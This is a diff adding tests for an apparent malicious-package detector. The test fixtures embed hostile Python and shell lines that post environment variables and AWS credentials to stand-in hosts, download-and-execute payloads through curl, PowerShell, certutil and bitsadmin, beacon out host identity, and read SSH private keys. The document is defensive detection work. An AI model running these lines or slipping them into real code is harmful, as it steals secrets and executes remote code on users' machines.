@@ -61,3 +61,100 @@ def test_a_secret_read_by_subscript_of_os_environ_reaching_the_network_is_exfilt
     )
     hits = {(h.rule, h.line) for h in analyze_source("pkg/mod.py", source).hits}
     assert hits == {("secret-exfiltration", 6), ("secret-exfiltration", 8)}
+
+
+def _rules(path: str, source: str) -> set[tuple[str, str, int]]:
+    return {(h.rule, h.severity.value, h.line) for h in analyze_source(path, source).hits}
+
+
+def test_the_whole_environment_in_any_spelling_reaching_the_network_is_exfiltration() -> None:
+    for spelling in ("os.environ", "dict(os.environ)", "str(os.environ)", "os.environ.copy()",
+                     "{k: v for k, v in os.environ.items()}", 'open("/proc/self/environ").read()'):
+        source = f'import os\nimport requests\nrequests.post("https://c.example.test/", json={{"env": {spelling}}})\n'
+        assert ("secret-exfiltration", "critical", 3) in _rules("pkg/__init__.py", source), spelling
+
+
+def test_the_environment_passed_to_a_subprocess_is_not_exfiltration() -> None:
+    source = 'import os, subprocess\nsubprocess.run(["git", "status"], env=dict(os.environ, LC_ALL="C"))\n'
+    assert not {r for r in _rules("pkg/__init__.py", source) if r[0] == "secret-exfiltration"}
+
+
+def test_an_atexit_handler_is_followed_and_a_stealer_called_only_by_the_user_is_still_malicious() -> None:
+    source = (
+        "import atexit, os, requests\n"
+        "def bye():\n"
+        '    requests.post("https://c.example.test/e", data=str(os.environ))\n'
+        "atexit.register(bye)\n"
+        "def sync_profile():\n"
+        '    creds = open(os.path.expanduser("~/.aws/credentials")).read()\n'
+        '    requests.post("https://c.example.test/c", data=creds)\n'
+    )
+    rules = _rules("pkg/__init__.py", source)
+    assert ("secret-exfiltration", "critical", 3) in rules
+    assert ("secret-exfiltration", "critical", 7) in rules  # on call: still critical (the verdict is what it does)
+
+
+def test_a_host_name_sent_from_a_function_nobody_calls_at_load_time_is_low() -> None:
+    source = 'import socket, requests\ndef register():\n    requests.post("https://t.example.test/", data=socket.gethostname())\n'
+    assert _rules("pkg/telemetry.py", source) == {("host-beacon", "low", 3)}
+
+
+def test_a_downloaded_file_saved_with_urlretrieve_then_started_is_download_and_execute() -> None:
+    source = (
+        "import os, subprocess, tempfile, urllib.request\n"
+        "def go():\n"
+        '    exe = os.path.join(tempfile.gettempdir(), "helper.exe")\n'
+        '    urllib.request.urlretrieve("https://s.example.test/h.exe", exe)\n'
+        "    subprocess.Popen([exe])\n"
+    )
+    assert ("download-and-execute", "critical", 5) in _rules("pkg/__init__.py", source)
+
+
+def test_a_constant_script_written_then_run_is_not_download_and_execute() -> None:
+    source = (
+        "import subprocess\n"
+        'with open("/tmp/step.sh", "w") as fh:\n'
+        '    fh.write("echo ok\\n")\n'
+        'subprocess.run(["sh", "/tmp/step.sh"])\n'
+    )
+    assert not {r for r in _rules("pkg/__init__.py", source) if r[0] == "download-and-execute"}
+
+
+def test_windows_downloaders_and_shell_pipes_into_interpreters_are_download_and_execute() -> None:
+    for command in ("curl -s https://s.example.test/x.py | python3",
+                    'powershell -c "iwr https://s.example.test/a.ps1 | iex"',
+                    "powershell Invoke-WebRequest https://s.example.test/a.exe -OutFile a.exe; Start-Process a.exe",
+                    "certutil -urlcache -split -f https://s.example.test/a.exe a.exe",
+                    "bitsadmin /transfer j https://s.example.test/a.exe C:/a.exe",
+                    'mshta vbscript:Execute("CreateObject(x)")'):
+        source = f"import os\nos.system({command!r})\n"
+        assert ("download-and-execute", "critical", 2) in _rules("setup.py", source), command
+
+
+def test_host_identity_in_a_network_command_at_install_time_is_a_beacon() -> None:
+    source = 'import os\nos.system("curl https://cb.example.test/$(whoami)/$(hostname)")\n'
+    assert ("host-beacon", "critical", 2) in _rules("setup.py", source)
+
+
+def test_exec_of_the_package_s_own_source_is_not_dynamic_code_but_exec_of_a_written_download_is() -> None:
+    own = (
+        "import os\n"
+        "about = {}\n"
+        'with open(os.path.join(os.path.dirname(__file__), "pkg", "__version__.py")) as f:\n'
+        "    exec(f.read(), about)\n"
+    )
+    assert not _rules("setup.py", own)
+    dropped = (
+        "import urllib.request\n"
+        'p = "/tmp/stage2.py"\n'
+        'open(p, "wb").write(urllib.request.urlopen("https://s.example.test/x").read())\n'
+        "with open(p) as f:\n"
+        "    exec(f.read())\n"
+    )
+    assert ("download-and-execute", "critical", 5) in _rules("pkg/__init__.py", dropped)
+
+
+def test_reading_ssh_known_hosts_is_not_credential_access_but_a_private_key_is() -> None:
+    assert not _rules("pkg/ssh.py", 'import os\ndef f():\n    return open(os.path.expanduser("~/.ssh/known_hosts")).read()\n')
+    assert ("credential-file-access", "medium", 3) in _rules(
+        "pkg/ssh.py", 'import os\ndef f():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n')
